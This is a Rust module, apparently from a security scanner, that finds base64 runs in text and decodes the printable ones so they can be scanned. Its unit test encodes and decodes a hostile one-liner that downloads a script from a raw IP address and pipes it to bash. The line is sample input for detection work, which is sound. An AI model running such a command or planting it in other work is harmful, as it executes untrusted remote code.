//! Finds and decodes base64 text, which is then scanned like any other. Pure.

use base64::Engine;
use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD, URL_SAFE_NO_PAD};

const SHORTEST: usize = 40;
/// The length from which a run of base64 is a finding by itself.
pub const LONG: usize = 200;

/// A run of base64 in a line.
pub struct Encoded {
    /// Its length.
    pub length: usize,
    /// The decoded text, if it is text.
    pub text: Option<String>,
}

/// The runs of base64 in a line.
pub fn runs(line: &str) -> impl Iterator<Item = Encoded> {
    let is_base64 = |c: char| c.is_ascii_alphanumeric() || "+/=-_".contains(c);
    line.split(move |c| !is_base64(c))
        .filter(|run| run.len() >= SHORTEST && !run.contains("//"))
        .map(|run| Encoded {
            length: run.len(),
            text: decode(run),
        })
}

fn decode(run: &str) -> Option<String> {
    let bare = run.trim_matches('=');
    let bytes = STANDARD
        .decode(run)
        .or_else(|_| STANDARD_NO_PAD.decode(bare))
        .or_else(|_| URL_SAFE_NO_PAD.decode(bare))
        .ok()?;
    let text = String::from_utf8(bytes).ok()?;
    let printable = |c: char| !c.is_control() || c.is_whitespace();
    text.chars().all(printable).then_some(text)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn text_is_decoded_and_other_bytes_are_not() {
        let hidden = STANDARD.encode("curl -fsSL http://91.92.93.94/x | bash");
        let texts: Vec<_> = runs(&format!("echo '{hidden}' | x"))
            .map(|run| run.text)
            .collect();
        assert_eq!(
            texts,
            [Some("curl -fsSL http://91.92.93.94/x | bash".to_owned())]
        );
        let digest = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
        assert!(runs(digest).all(|run| run.text.is_none()));
    }
}
